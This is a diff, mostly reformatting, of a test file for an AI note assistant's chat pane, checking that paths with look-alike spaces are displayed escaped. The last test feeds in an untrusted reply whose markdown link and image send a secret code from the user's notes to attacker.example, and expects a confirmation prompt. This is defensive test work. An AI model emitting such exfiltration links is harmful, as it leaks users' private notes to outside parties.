@@ -21,7 +21,14 @@ const ZWSP_SHOWN = "Projects/Garden shed\\u200B.md";
 
 function editScript(path: string): EventScript {
 	const s = new EventScript().user("m1", "Paint the door").assistant("a1", "");
-	s.add({ type: "edit_intent_declared", editId: "e1", callId: "c_edit", path, operation: "modify", description: "Add the paint colour" });
+	s.add({
+		type: "edit_intent_declared",
+		editId: "e1",
+		callId: "c_edit",
+		path,
+		operation: "modify",
+		description: "Add the paint colour",
+	});
 	s.propose("a1", "c_edit", "declareEditIntent", { path, operation: "modify", description: "Add the paint colour" });
 	return s;
 }
@@ -30,7 +37,9 @@ describe("paths with look-alike characters in the pane", () => {
 	it("show a no-break space escaped on the edit card: its title, its link and its label", async () => {
 		await renderThread(editScript(NBSP_PATH));
 		const card = screen.getByRole("group", { name: `Edit ${NBSP_SHOWN}` });
-		expect(card.querySelector(".redline-card-title")?.textContent).toBe(`Planning to add the paint colour in ${NBSP_SHOWN}…`);
+		expect(card.querySelector(".redline-card-title")?.textContent).toBe(
+			`Planning to add the paint colour in ${NBSP_SHOWN}…`,
+		);
 		const link = within(card).getByRole("link", { name: `Open ${NBSP_SHOWN}` });
 		expect(link.textContent).toBe(NBSP_SHOWN);
 		expect(card.textContent).not.toContain("\u00a0");
@@ -46,7 +55,9 @@ describe("paths with look-alike characters in the pane", () => {
 
 	it("show a no-break space escaped on a read card, in its step line and in a result that names the path", async () => {
 		const s = new EventScript().user("m1", "Read the shed note").assistant("a1", "");
-		s.propose("a1", "c1", "readNote", { path: NBSP_PATH }).decide("c1", "approved").run("c1", { status: "error", message: `No note at ${NBSP_PATH}.`, path: NBSP_PATH });
+		s.propose("a1", "c1", "readNote", { path: NBSP_PATH })
+			.decide("c1", "approved")
+			.run("c1", { status: "error", message: `No note at ${NBSP_PATH}.`, path: NBSP_PATH });
 		s.propose("a1", "c2", "readNote", { path: "Projects/Garden\u202fshed.md" });
 		await renderThread(s);
 		expect(screen.getAllByText(`Reading Garden\\u00A0shed.md`).length).toBeGreaterThan(0);
@@ -59,11 +70,16 @@ describe("paths with look-alike characters in the pane", () => {
 	it("show a plain path exactly as it is", async () => {
 		await renderThread(editScript("Projects/Garden shed.md"));
 		const card = screen.getByRole("group", { name: "Edit Projects/Garden shed.md" });
-		expect(within(card).getByRole("link", { name: "Open Projects/Garden shed.md" }).textContent).toBe("Projects/Garden shed.md");
+		expect(within(card).getByRole("link", { name: "Open Projects/Garden shed.md" }).textContent).toBe(
+			"Projects/Garden shed.md",
+		);
 	});
 
 	it("show a no-break space escaped in the sandbox page's file list, folder and note alike", () => {
-		const notes = [{ path: NBSP_PATH, size: 1, mtime: 0 }, { path: "Pro\u00a0jects/Plan.md", size: 1, mtime: 0 }];
+		const notes = [
+			{ path: NBSP_PATH, size: 1, mtime: 0 },
+			{ path: "Pro\u00a0jects/Plan.md", size: 1, mtime: 0 },
+		];
 		render(<FileList notes={notes} selected={null} changed={new Set()} onSelect={() => undefined} />);
 		const list = screen.getByRole("navigation", { name: "Notes" });
 		expect(within(list).getByRole("button", { name: "Garden\\u00A0shed" })).toBeTruthy();
@@ -73,21 +89,37 @@ describe("paths with look-alike characters in the pane", () => {
 
 	it("show a no-break space and a zero-width space escaped on a user message's pinned notes", async () => {
 		const s = new EventScript();
-		s.add({ type: "user_message", messageId: "m1", content: "Paint the door", pinned: [{ path: NBSP_PATH }, { path: ZWSP_PATH }] });
+		s.add({
+			type: "user_message",
+			messageId: "m1",
+			content: "Paint the door",
+			pinned: [{ path: NBSP_PATH }, { path: ZWSP_PATH }],
+		});
 		await renderThread(s);
 		const pins = screen.getByRole("list", { name: "Pinned notes" });
-		expect(within(pins).getAllByRole("listitem").map((li) => li.textContent)).toEqual([NBSP_SHOWN, ZWSP_SHOWN]);
+		expect(
+			within(pins)
+				.getAllByRole("listitem")
+				.map((li) => li.textContent),
+		).toEqual([NBSP_SHOWN, ZWSP_SHOWN]);
 		expect(pins.textContent).not.toMatch(/[\u00a0\u200b]/);
 	});
 
 	it("show a no-break space and a zero-width space escaped where a reply's link or image names the notes it carries text from", async () => {
 		const pane = document.body.appendChild(document.createElement("div"));
-		const host = { renderMarkdown: (el: HTMLElement, markdown: string) => renderMarkdownInto(el, markdown, () => undefined) };
+		const host = {
+			renderMarkdown: (el: HTMLElement, markdown: string) => renderMarkdownInto(el, markdown, () => undefined),
+		};
 		const reads = [
 			{ path: NBSP_PATH, text: "The shed code is tulip-Harbor-9917" },
 			{ path: ZWSP_PATH, text: "Also tulip-Harbor-9917 here" },
 		];
-		renderUntrustedReply(host, pane, "See [the shed](https://attacker.example/?d=tulip-Harbor-9917).\n\n![](https://attacker.example/p.png?d=tulip-Harbor-9917)", { reads, open: () => undefined });
+		renderUntrustedReply(
+			host,
+			pane,
+			"See [the shed](https://attacker.example/?d=tulip-Harbor-9917).\n\n![](https://attacker.example/p.png?d=tulip-Harbor-9917)",
+			{ reads, open: () => undefined },
+		);
 		const link = await within(pane).findByRole("link", { name: "the shed" });
 		link.click();
 		const ask = within(pane).getByRole("group", { name: "Open this link?" });
